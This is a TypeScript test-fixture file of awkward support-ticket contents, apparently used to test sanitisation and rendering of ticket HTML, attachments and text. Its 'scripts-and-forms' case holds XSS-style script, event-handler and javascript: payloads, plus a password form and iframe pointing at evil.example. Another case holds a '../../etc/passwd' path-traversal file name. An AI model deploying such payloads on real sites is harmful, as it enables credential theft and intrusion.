import { MINUTE } from '../timeline.ts';
import { addComment, firstComment, setText, type TicketCase } from './ticket-case.ts';

const PICTURE = '<img src="{{file:0}}" data-original-height="24" data-original-width="24" style="width:24px">';
const EMOJI_IMAGE = 'https://static.zdassets.com/classic/images/emojis/thumbsup.png';

/** Tickets that are awkward for what was written or attached. */
export const CONTENT_CASES = {
  'inline-images': {
    does: 'shows two pictures of equal bytes and a third one inside its comments',
    change(draft) {
      const first = firstComment(draft);
      first.files = [{ name: 'error.png', kind: 'png', content: 4711, inline: true }];
      setText(first, `<p>See:</p><p>${PICTURE}</p><p>Thanks</p>`, 'See:\n\n ![](error.png)\n\nThanks');
      const reply = addComment(draft, { text: '' });
      reply.files = [
        { name: 'image001.png', kind: 'png', content: 4711, inline: true },
        { name: 'other.png', kind: 'png', content: 4712, inline: true },
        { name: 'report.pdf', kind: 'pdf', content: 4713 },
      ];
      setText(reply, `<p>Same here ${PICTURE} and <img src='{{file:1}}'></p>`, 'Same here  and ');
    },
  },
  redacted: {
    does: 'has redacted words and a redacted file',
    change(draft) {
      const text = 'My card number is ▇▇▇▇ ▇▇▇▇ ▇▇▇▇ 1234, please refund.';
      addComment(draft, { author: draft.requester.id, text }).files = [
        { name: 'passport.png', kind: 'png', content: 5, redacted: true },
      ];
    },
  },
  'emoji-text': {
    does: 'is written with emoji, one of them a picture of the platform',
    change(draft) {
      draft.subject = '🚀 Launch went 💥 — café “naïve” 👩‍👩‍👧‍👦';
      const html = `<p>Great 👍🏽 job! <img src="${EMOJI_IMAGE}" alt="👍" class="emoji"> 🇫🇷</p>`;
      setText(firstComment(draft), html, 'Great 👍🏽 job! 👍 🇫🇷');
    },
  },
  'rtl-text': {
    does: 'is written from right to left',
    change(draft) {
      draft.subject = 'مشكلة في الفاتورة رقم 123 (ABC)';
      setText(
        firstComment(draft),
        '<p dir="rtl">مرحبا، لا أستطيع الدخول. תודה רבה</p>',
        'مرحبا، لا أستطيع الدخول. תודה רבה',
      );
    },
  },
  'cjk-text': {
    does: 'is written in Chinese, Japanese and Korean',
    change(draft) {
      draft.subject = '無法登入系統:錯誤 500';
      setText(
        firstComment(draft),
        '<p>請幫忙。ログインできません。<br>로그인 오류 𠮷</p>',
        '請幫忙。ログインできません。\n로그인 오류 𠮷',
      );
    },
  },
  'scripts-and-forms': {
    does: 'has scripts, a form, event handlers and a style sheet in its HTML',
    change(draft) {
      const html = [
        '<p onclick="steal()">Hello<script>alert("x")</script></p>',
        '<form action="https://evil.example/login"><input name="password"><button>Sign in</button></form>',
        '<style>body{display:none}</style><a href="javascript:alert(1)">click</a>',
        '<iframe src="https://evil.example/frame"></iframe><p>The end</p>',
      ];
      setText(firstComment(draft), html.join(''), 'Hello\n\nSign in\n\nclick\n\nThe end');
    },
  },
  'tracking-pixel': {
    does: 'has a tracking pixel and a picture of a stranger’s host',
    change(draft) {
      const html =
        '<p>Newsletter</p><img src="https://track.newsletter.example/o.gif?u=42" width="1" height="1" alt="">' +
        '<img src="https://cdn.newsletter.example/logo.png" alt="Newsletter logo">';
      setText(firstComment(draft), html, 'Newsletter');
    },
  },
  'tables-and-code': {
    does: 'has a table, a list, code and entities in its HTML',
    change(draft) {
      draft.subject = 'Export <b>fails</b> & "quotes" break  it ';
      const html =
        '<table><tbody><tr><th>Step</th><th>Result</th></tr><tr><td>1 &lt; 2</td><td>a&nbsp;&amp;&nbsp;b</td></tr></tbody></table>' +
        '<ul><li>one</li><li>two<ol><li>inner</li></ol></li></ul><pre><code>if (a &lt; b &amp;&amp; c) {\n  return "x";\n}</code></pre>';
      setText(
        firstComment(draft),
        html,
        'Step  Result\n1 < 2  a & b\n\n* one\n* two\n\nif (a < b && c) {\n  return "x";\n}',
      );
    },
  },
  'quoted-mail': {
    does: 'quotes a mail with its signature and headers',
    change(draft) {
      const html =
        '<p>Yes please.</p><div class="gmail_quote">On Mon, 3 Feb 2025 at 09:12, ACME Support &lt;support@acme.example&gt; wrote:' +
        '<blockquote style="margin:0 0 0 .8ex"><p>Shall we go ahead?</p><p>--<br>ACME Support</p></blockquote></div>';
      addComment(draft, { author: draft.requester.id, text: '' }).text = {
        html,
        plain: 'Yes please.\n\nOn Mon, 3 Feb 2025 …',
      };
    },
  },
  'odd-file-names': {
    does: 'has files whose names are paths, devices, very long or not Latin',
    change(draft) {
      firstComment(draft).files = [
        { name: '../../etc/passwd.txt', kind: 'txt', content: 21 },
        { name: 'CON.txt', kind: 'txt', content: 22 },
        { name: 'Übersicht 2024 – größe 100% #1 & co.csv', kind: 'csv', content: 23 },
        { name: '見積書 📎.pdf', kind: 'pdf', content: 24 },
        { name: `${'long name '.repeat(18).trim()}.txt`, kind: 'txt', content: 25 },
        { name: 'no-extension', kind: 'txt', content: 26 },
      ];
    },
  },
  'duplicate-file-names': {
    does: 'has two files of one name in a comment, and a third in the next',
    change(draft) {
      firstComment(draft).files = [
        { name: 'image.png', kind: 'png', content: 31 },
        { name: 'image.png', kind: 'png', content: 32 },
      ];
      addComment(draft, { text: 'Here is mine.' }).files = [{ name: 'image.png', kind: 'png', content: 31 }];
    },
  },
  'file-without-words': {
    does: 'has a comment that is nothing but a file',
    change(draft) {
      const comment = addComment(draft, { author: draft.requester.id, text: '' });
      setText(comment, '', '');
      comment.files = [{ name: 'scan.pdf', kind: 'pdf', content: 41 }];
    },
  },
  'many-comments': {
    does: 'has more than forty comments',
    change(draft) {
      for (let turn = 1; turn <= 42; turn += 1) {
        const author = turn % 2 === 1 ? draft.requester.id : draft.assigneeId;
        addComment(draft, {
          ...(author ? { author } : {}),
          text: `Message ${turn} of a long talk.`,
          public: turn % 7 !== 0,
        });
      }
    },
  },
  'same-second': {
    does: 'has four comments of one second, whose order only their ids tell',
    change(draft) {
      const at = (draft.comments.at(-1)?.at ?? 0) + MINUTE;
      for (const word of ['First', 'Second', 'Third', 'Fourth'])
        addComment(draft, { text: `${word} of one second.`, at });
    },
  },
  'links-in-bodies': {
    does: 'links to another ticket and to an article',
    change(draft, tools) {
      const other = tools.ticketId('inline-images');
      const ticket = `{{base}}/agent/tickets/${other}`;
      const article = '{{base}}/hc/en-us/articles/5300000000001';
      const html = `<p>See <a href="${ticket}">#${other}</a> and <a href="${article}">this article</a>.</p>`;
      addComment(draft, { text: '' }).text = {
        html,
        plain: `See #${other} (${ticket}) and this article (${article}).`,
      };
    },
  },
  'voice-recording-gone': {
    does: 'has a call whose recording no longer exists',
    change(draft) {
      draft.via = { channel: 'voice', source: { from: {}, to: {}, rel: 'inbound' } };
      addComment(draft, { text: 'Call from: +33 1 99 00 12 34', public: false }).call = {
        seconds: 94,
        transcript: 'Hello, I am calling about my order.',
        recorded: false,
      };
    },
  },
  'voice-recording': {
    does: 'has a call with a recording',
    change(draft) {
      addComment(draft, { text: 'Call from: +33 1 99 00 12 34' }).call = {
        seconds: 31,
        transcript: null,
        recorded: true,
      };
    },
  },
} as const satisfies Record<string, TicketCase>;
